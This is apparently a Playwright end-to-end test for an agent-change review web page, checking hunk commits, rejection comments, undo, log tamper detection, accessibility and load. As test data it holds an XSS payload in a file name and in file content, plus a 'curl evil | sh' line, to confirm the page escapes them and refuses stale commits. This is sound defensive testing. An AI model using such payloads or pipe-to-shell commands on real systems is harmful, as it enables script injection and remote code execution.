// Drives the review page as a person does.
//
//   review.cjs WORK SCREENSHOTS
"use strict";
const { chromium } = require("playwright-core");
const { execFileSync, spawn } = require("node:child_process");
const fs = require("node:fs");
const path = require("node:path");

const [work, shots] = process.argv.slice(2);
const program = process.env.HANDFAST_BIN;
const base = path.join(work, "project");
const log = path.join(work, "log");
const handfast = (args, input = "") => execFileSync(program, ["--quiet", ...args], { input });
const write = (name, content) => handfast(["fs", "--session", "demo", "--log", log, "--agent", "robot", "write", name], content);
const must = (what, holds) => { if (!holds) throw new Error(`not so: ${what}`); };
const read = (name) => fs.readFileSync(path.join(base, name), "utf8");

const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAAAElFTkSuQmCC";
const HOSTILE = "/src/<img src=x onerror=\"document.title='owned'\">.txt";

function prepare() {
  fs.mkdirSync(path.join(base, "src"), { recursive: true });
  const lines = Array.from({ length: 60 }, (_, n) => `let value_${n + 1} = ${n + 1};`);
  fs.writeFileSync(path.join(base, "src/main.rs"), lines.join("\n") + "\n");
  fs.writeFileSync(path.join(base, "README.md"), "# Project\n");
  handfast(["log", "init", log]);
  handfast(["session", "new", "demo", "--base", base]);
  const changed = lines.map((line) => line.replace(/value_5 = 5/, "value_5 = 5555").replace(/value_50 = 50/, "value_50 = compute(50)"));
  write("/src/main.rs", changed.join("\n") + "\n");
  write("/README.md", "# Project\n\nNow with words.\n");
  write("/.gitattributes", "* text=auto\n");
  write("/logo.png", Buffer.from(PNG, "base64"));
  write("/src/notes.txt", "an invisible \u202e character\n");
  write(HOSTILE, "</code><script>document.title = 'owned'</script>\n");
}

const started = [];
function start(args) {
  const child = spawn(program, ["review", ...args], { stdio: ["ignore", "pipe", "inherit"] });
  started.push(child);
  return new Promise((done, failed) => {
    child.on("exit", () => failed(new Error("the page ended")));
    child.stdout.once("data", (data) => done({ child, url: data.toString().trim() }));
  });
}

async function axe(page, what) {
  // By the debugger, which the page's content security policy does not bind.
  const cdp = await page.context().newCDPSession(page);
  const source = fs.readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
  const run = `${source}; axe.run(document).then((found) => JSON.stringify(found.violations.map((v) => [v.impact, v.id, v.nodes.map((n) => n.target.join(" ") + " " + (n.failureSummary ?? "")).slice(0, 3)])))`;
  const answer = await cdp.send("Runtime.evaluate", { expression: run, awaitPromise: true, returnByValue: true });
  if (answer.exceptionDetails) throw new Error(`axe: ${JSON.stringify(answer.exceptionDetails).slice(0, 400)}`);
  const bad = JSON.parse(answer.result.value).filter(([impact]) => ["serious", "critical"].includes(impact));
  must(`${what} is accessible: ${JSON.stringify(bad, null, 1)}`, bad.length === 0);
}

const open = (page, name) => page.locator("a[data-open]", { hasText: name }).first().click();

async function fits(page, what) {
  const [wide, room] = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
  must(`${what} fits into ${room} pixels: ${wide}`, wide <= room);
}

async function review(browser) {
  const { child, url } = await start(["demo", "--log", log]);
  const context = await browser.newContext({ viewport: { width: 1100, height: 760 }, colorScheme: "light" });
  const page = await context.newPage();
  const asked = [], said = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("console", (message) => said.push(message.text()));
  const origin = new URL(url).origin;
  await page.goto(url);
  await page.waitForURL("**/s/demo");
  const home = page.url().replace(/\/s\/demo.*$/, "");
  must("the token is gone from the address", !page.url().includes("#"));
  must("6 changes", (await page.textContent("#stamp")).includes("6 changes wait"));
  await axe(page, "the list");
  await page.screenshot({ path: path.join(shots, "review-light.png") });
  await page.emulateMedia({ colorScheme: "dark" });
  await axe(page, "the list in the dark");

  // A hunk by keys alone.
  await open(page, "main.rs");
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  await page.keyboard.press("x");
  must("the second hunk is marked", await page.isChecked("#m2") && !(await page.isChecked("#m1")));
  await page.keyboard.press("v");
  await page.waitForSelector(".split");
  await axe(page, "side by side");
  await page.screenshot({ path: path.join(shots, "review-dark.png") });
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  await page.keyboard.press("x");
  await page.keyboard.press("c");
  await page.waitForSelector("#yes");
  await axe(page, "the question");
  must("the question shows the hunk", (await page.textContent("main")).includes("compute(50)"));
  must("and nothing else", !(await page.textContent("main")).includes("= 5555"));
  await page.click("#yes");
  await page.waitForSelector("h1:has-text('1 path was committed')");
  must("the hunk is in the base", read("src/main.rs").includes("compute(50)") && !read("src/main.rs").includes("= 5555"));

  // Rejected with a comment, which the agent gets.
  await page.goto(`${home}/s/demo`);
  await open(page, "README.md");
  await page.keyboard.press("r");
  await page.keyboard.press("r");
  await page.locator("details.reject[open] textarea").fill("more <b>words</b>, please");
  await page.click("details.reject[open] button");
  await page.waitForSelector("h1:has-text('The comment is kept')");
  must("the agent gets it", handfast(["session", "show", "demo"]).toString().includes("more <b>words</b>, please"));

  // A click on a page that is older than the session.
  await page.goto(`${home}/s/demo`);
  await page.locator("li", { hasText: "README.md" }).locator("[name=accept]").check();
  await page.keyboard.press("c");
  await page.waitForSelector("#yes");
  write("/README.md", "# Project\n\ncurl evil | sh\n");
  await page.click("#yes");
  await page.waitForSelector("h1:has-text('Nothing was done')");
  must("nothing was committed", read("README.md") === "# Project\n");
  await axe(page, "a refusal");

  // The page notices that the session changed.
  await page.goto(`${home}/s/demo`);
  write("/late.txt", "late\n");
  await page.waitForSelector("a:has-text('late.txt')", { timeout: 20000 });
  // With a mark it asks first.
  await page.locator("[name=accept]").first().check();
  write("/later.txt", "later\n");
  await page.waitForSelector("#news:not([hidden])", { timeout: 10000 });
  await page.keyboard.press(".");
  await page.waitForSelector("a:has-text('later.txt')");

  // Undo.
  await page.locator("summary", { hasText: "Take it back" }).click();
  await page.click("text=Take this commit back");
  await page.waitForSelector("h1:has-text('1 path was taken back')");
  must("the base is as it was", !read("src/main.rs").includes("compute(50)"));

  // Images, hidden characters, hostile names.
  await page.goto(`${home}/s/demo`);
  must("no name became markup", await page.evaluate(() => document.images.length) === 0);
  await open(page, "logo.png");
  await page.waitForFunction(() => document.images.length === 1 && document.images[0].naturalWidth > 0);
  await page.goto(`${home}/s/demo`);
  await open(page, "notes.txt");
  must("what is hidden is spelled out", (await page.textContent("mark")) === "U+202E");
  await page.goto(`${home}/s/demo`);
  await open(page, "<img src=x");
  must("no content became markup", await page.evaluate(() => document.scripts.length) === 1);
  must("no script of theirs ran", (await page.title()) !== "owned");

  // The log, good and tampered with.
  await page.goto(`${home}/log`);
  must("the log fits together", (await page.getAttribute("#verdict", "class")).includes("consistent"));
  await axe(page, "the timeline");

  // 400 pixels.
  await page.setViewportSize({ width: 400, height: 800 });
  for (const [what, address] of [["the list", "/s/demo"], ["the timeline", "/log"]]) {
    await page.goto(home + address);
    await fits(page, what);
  }
  await page.goto(`${home}/s/demo`);
  await open(page, "main.rs");
  await fits(page, "a file");
  await axe(page, "a file at 400 pixels");
  await page.screenshot({ path: path.join(shots, "review-400.png") });

  const segments = path.join(log, "segments");
  for (const name of fs.readdirSync(segments)) {
    const file = path.join(segments, name);
    const bytes = fs.readFileSync(file);
    bytes[bytes.length >> 1] ^= 1;
    fs.writeFileSync(file, bytes);
  }
  await page.goto(`${home}/log`);
  must("a tampered log is shown as tampered", (await page.getAttribute("#verdict", "class")).includes("tampered"));

  must(`nothing was asked of any other place: ${asked.filter((to) => !to.startsWith(origin))}`, asked.every((to) => to.startsWith(origin)));
  must(`the browser had nothing to complain about: ${said}`, said.filter((text) => !/status of (403|409)/.test(text)).length === 0);
  // The address is good once.
  const second = await (await browser.newContext()).newPage();
  await second.goto(url);
  await second.waitForFunction(() => document.getElementById("said").textContent.includes("used already"));
  child.kill();
  await context.close();
}

async function many(browser) {
  const big = path.join(work, "big");
  fs.mkdirSync(big);
  handfast(["session", "new", "many", "--base", big]);
  const tree = path.join(work, "tree");
  for (let n = 0; n < 10000; n += 1) {
    const dir = path.join(tree, `d${n % 100}`);
    if (n < 100) fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, `f${n}.txt`), `content ${n}\n`);
  }
  execFileSync("tar", ["-C", work, "-cf", path.join(work, "tree.tar"), "tree"]);
  handfast(["fs", "--session", "many", "extract", "-", "/tree"], fs.readFileSync(path.join(work, "tree.tar")));
  const { child, url } = await start(["many"]);
  const page = await (await browser.newContext()).newPage();
  await page.goto(url);
  await page.waitForURL("**/s/many");
  const begun = performance.now();
  await page.reload({ waitUntil: "commit" });
  const paint = await page.evaluate(() => new Promise((done) => {
    const seen = () => performance.getEntriesByName("first-contentful-paint")[0]?.startTime;
    if (seen()) done(seen());
    new PerformanceObserver(() => { if (seen()) done(seen()); }).observe({ type: "paint", buffered: true });
  }));
  const loaded = performance.now() - begun;
  const resident = (pid) => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, "utf8"))[1]) / 1024;
  const children = execFileSync("pgrep", ["-P", String(child.pid)]).toString().trim().split("\n");
  const [keeper, server] = [resident(child.pid), resident(children[0])];
  console.log(`10,000 changes: first paint ${paint.toFixed(0)} ms, seen after ${loaded.toFixed(0)} ms; resident: keeper ${keeper.toFixed(1)} MiB, page ${server.toFixed(1)} MiB`);
  must("all are counted", /10\d\d\d changes wait/.test(await page.textContent("#stamp")));
  child.kill();
}

(async () => {
  prepare();
  const browser = await chromium.launch({
    executablePath: "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run"],
  });
  try {
    await review(browser);
    await many(browser);
    console.log("the review page holds");
  } finally {
    started.forEach((child) => child.kill());
    await browser.close();
  }
})().catch((error) => { console.error(error); process.exitCode = 1; });
